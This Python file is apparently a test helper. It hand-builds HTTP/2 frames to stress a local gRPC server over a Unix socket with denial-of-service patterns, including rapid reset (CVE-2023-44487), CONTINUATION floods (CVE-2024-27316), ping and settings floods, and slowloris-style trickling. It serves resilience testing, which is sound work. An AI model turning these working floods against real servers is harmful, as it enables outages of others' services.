"""Does to a gRPC server what a client should not. Run by itself: `hostile.py SOCKET HOW`.

Speaks HTTP/2 by hand, for no client library would. Says when it has begun. Goes on until standard
input ends, and then says how often it did it. A connection that the server ends is opened anew.
Source: RFC 9113, RFC 7541.
"""

from __future__ import annotations

import contextlib
import os
import select
import socket
import struct
import sys
from collections.abc import Iterator
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4

SERVICE: Final = "/convertd.v1.ConvertService/"
MANY: Final = 2000


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream)
        + payload
    )


def headers(stream: int, method: str, flags: int = END_HEADERS) -> bytes:
    """The beginning of a call; every field a literal without indexing."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": SERVICE + method,
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    block = b"".join(
        bytes((0, len(name))) + name.encode() + bytes((len(value),)) + value.encode()
        for name, value in fields.items()
    )
    return frame(HEADERS, flags, stream, block)


def call(stream: int, method: str, message: bytes = b"") -> bytes:
    """A whole call."""
    return headers(stream, method) + frame(
        DATA, END_STREAM, stream, struct.pack(">BI", 0, len(message)) + message
    )


GREETING: Final = PREFACE + frame(SETTINGS, 0, 0)


def half_open() -> Iterator[bytes]:
    """Connect, and say nothing."""
    while True:
        yield b""


def come_and_go() -> Iterator[bytes]:
    """Connect, and be gone at once."""
    yield from ()


def slow() -> Iterator[bytes]:
    """One byte at a time."""
    for byte in GREETING + call(1, "ListJobs") * MANY:
        yield bytes((byte,))


def no_message() -> Iterator[bytes]:
    """Calls without a message, as many as there may be, and more."""
    yield GREETING
    yield b"".join(headers(2 * number + 1, "Convert") for number in range(MANY))
    yield from half_open()


def rapid_reset() -> Iterator[bytes]:
    """Calls that are taken back at once. CVE-2023-44487."""
    yield GREETING
    for number in range(10**9):
        stream = 2 * number + 1
        yield call(stream, "Convert") + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def ping_flood() -> Iterator[bytes]:
    """Pings, and the answers never read."""
    yield GREETING
    while True:
        yield frame(PING, 0, 0, b"12345678") * 100


def settings_flood() -> Iterator[bytes]:
    """Settings, each of which wants an acknowledgement."""
    yield GREETING
    while True:
        yield frame(SETTINGS, 0, 0) * 100


def endless_headers() -> Iterator[bytes]:
    """Headers that never end. CVE-2024-27316."""
    yield GREETING + headers(1, "Convert", flags=0)
    while True:
        yield frame(CONTINUATION, 0, 1, b"\0\1x\1y" * 1000)


def large_messages() -> Iterator[bytes]:
    """Messages of 4 MiB, of which but 256 KiB are allowed."""
    yield GREETING
    for number in range(10**9):
        stream = 2 * number + 1
        yield headers(stream, "Convert")
        yield frame(DATA, 0, stream, struct.pack(">BI", 0, 4 * 2**20))
        for _ in range(256):
            yield frame(DATA, 0, stream, bytes(16384))


def stopped_reader() -> Iterator[bytes]:
    """Calls whose answers are never read."""
    yield GREETING
    for number in range(10**9):
        yield call(2 * number + 1, "GetAccess")


def busy() -> Iterator[bytes]:
    """Calls as fast as they can be made, whose answers are read."""
    yield from stopped_reader()


def garbage() -> Iterator[bytes]:
    """No HTTP at all."""
    while True:
        yield os.urandom(4096)


HOW: Final = {
    function.__name__: function
    for function in (
        *(half_open, come_and_go, slow, no_message, rapid_reset, ping_flood, settings_flood),
        *(endless_headers, large_messages, stopped_reader, busy, garbage),
    )
}

CONNECTIONS: Final = {"half_open": 200, "stopped_reader": 8, "busy": 8, "slow": 8}
"""How many at once. 200 are more than a user may have: the rest is refused, again and again."""

READ: Final = frozenset({"busy"})
"""Whose answers are read."""

PAUSE_S: Final = {"half_open": 0.05, "slow": 0.01, "no_message": 0.05}
"""Whose way is not to hurry. Waiting is for standard input, which ends it."""


def connect(path: str) -> socket.socket | None:
    """A new connection, if there is one to be had."""
    sock = socket.socket(socket.AF_UNIX)
    sock.setblocking(False)
    try:
        sock.connect(path)
    except OSError:
        sock.close()
        return None
    return sock


def is_over(sock: socket.socket) -> bool:
    """Whether the server has ended a connection. What it says is left unread."""
    poll = select.poll()
    poll.register(sock, select.POLLRDHUP)
    return bool(poll.poll(0))


def main(path: str, how: str) -> None:
    """Do it, and say how often."""
    done = 0
    ways: list[tuple[socket.socket, Iterator[bytes]]] = []
    while not select.select([sys.stdin], [], [], PAUSE_S.get(how, 0))[0]:
        while len(ways) < CONNECTIONS.get(how, 1) and (sock := connect(path)):
            ways.append((sock, HOW[how]()))
        for way in tuple(ways):
            sock, saying = way
            try:
                if is_over(sock):
                    raise BrokenPipeError
                with contextlib.suppress(BlockingIOError):
                    sock.send(next(saying))
                with contextlib.suppress(BlockingIOError):
                    while how in READ and sock.recv(2**16):
                        pass
            except (OSError, StopIteration):
                sock.close()
                ways.remove(way)
            done += 1
            if done == 1:
                sys.stdout.write("begun\n")
                sys.stdout.flush()
    sys.stdout.write(f"{done}\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
